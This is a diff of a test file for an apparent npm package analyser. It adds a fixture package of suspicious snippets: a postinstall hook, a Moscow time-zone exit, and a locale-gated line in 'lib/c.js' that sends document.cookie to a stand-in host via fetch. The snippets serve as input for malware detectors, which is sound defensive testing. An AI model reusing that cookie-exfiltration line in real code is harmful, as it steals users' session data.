@@ -1,5 +1,5 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { PACKAGE_TIME_BUDGET_MS, analyzeFileTask, analyzePackageWith, type FileTask } from '../../../src/analysis/analyze-package.js';
+import { PACKAGE_TIME_BUDGET_MS, analyzeFileTask, analyzePackage, analyzePackageWith, type FileTask } from '../../../src/analysis/analyze-package.js';
 import { DETECTORS } from '../../../src/analysis/detectors/index.js';
 import { createAnalysisPool, estimateFileBytes, type AnalysisPool } from '../../../src/analysis/pool/pool.js';
 import type { PackageFile } from '../../../src/fetch/types.js';
@@ -191,8 +191,16 @@ describe('analyzePackageWith over the pool', () => {
     // Every file waits a minute of wall time for a worker and holds it for 5 ms.
     const clock = (): number => (now += 60_000);
     const left: number[] = [];
-    const names = ['a.js', 'b.js', 'c.js', 'd.js', 'e.js'];
-    const files = { files: names.map((name) => file(name, 'module.exports = 1;')), integrity: null, notes: [] };
+    // A chain of imports: each file is handed out only when the one before it is answered.
+    const names = ['index.js', 'a.js', 'b.js', 'c.js', 'd.js'];
+    const files = {
+      files: [
+        file('package.json', JSON.stringify({ name: 'p', main: 'index.js' })),
+        ...names.map((name, i) => file(name, names[i + 1] === undefined ? 'module.exports = 1;' : `require('./${names[i + 1]}');`)),
+      ],
+      integrity: null,
+      notes: [],
+    };
     const result = await analyzePackageWith(
       files,
       DETECTORS,
@@ -204,5 +212,40 @@ describe('analyzePackageWith over the pool', () => {
     );
     expect(left).toEqual([0, 5, 10, 15, 20].map((spent) => PACKAGE_TIME_BUDGET_MS - spent));
     expect(result.files.parsed).toBe(5);
+  });
+
+  it('hands out several files of a package at once where the plan allows, answered in any order, with the analysis of one after another', async () => {
+    const files = {
+      files: [
+        file('package.json', JSON.stringify({ name: 'p', main: 'index.js', bin: { p: 'bin/cli.js' }, scripts: { postinstall: 'node install.js' } })),
+        file('install.js', "require('./lib/setup.js'); require('os').hostname();"),
+        file('lib/setup.js', "const tz = Intl.DateTimeFormat().resolvedOptions().timeZone; if (tz === 'Europe/Moscow') process.exit(1);"),
+        file('index.js', "require('./lib/a.js'); require('./lib/b.js'); const m = require('./locale/' + lang);"),
+        file('bin/cli.js', "require('../lib/b.js'); navigator.language;"),
+        file('lib/a.js', "require('./c.js'); module.exports = navigator.userAgent;"),
+        file('lib/b.js', 'module.exports = screen.width;'),
+        file('lib/c.js', "if (navigator.languages.includes('ru-RU')) { fetch('https://x.example/' + document.cookie); }"),
+        file('locale/ru.js', 'module.exports = Intl.DateTimeFormat().resolvedOptions().locale;'),
+        file('locale/ru.js', 'module.exports = os.userInfo();'),
+        ...Array.from({ length: 12 }, (_, i) => file(`test/t${i}.js`, i % 3 === 0 ? 'process.env.CI;' : `x${i} = ${i};`)),
+        file('test/broken.js', 'this is not javascript'),
+      ],
+      integrity: null,
+      notes: [],
+    };
+    let held = 0;
+    let mostHeld = 0;
+    let seed = 7;
+    const result = await analyzePackageWith(files, DETECTORS, async (t) => {
+      held++;
+      mostHeld = Math.max(mostHeld, held);
+      seed = (seed * 48_271) % 2_147_483_647;
+      await new Promise((resolve) => setTimeout(resolve, seed % 15));
+      held--;
+      return { ok: true, result: analyzeFileTask(t, DETECTORS), workerMs: 1 };
+    });
+    expect(mostHeld).toBeGreaterThan(1);
+    expect(result).toEqual(analyzePackage(files, DETECTORS));
+    expect(result.files.total).toBe(22);
   });
 });
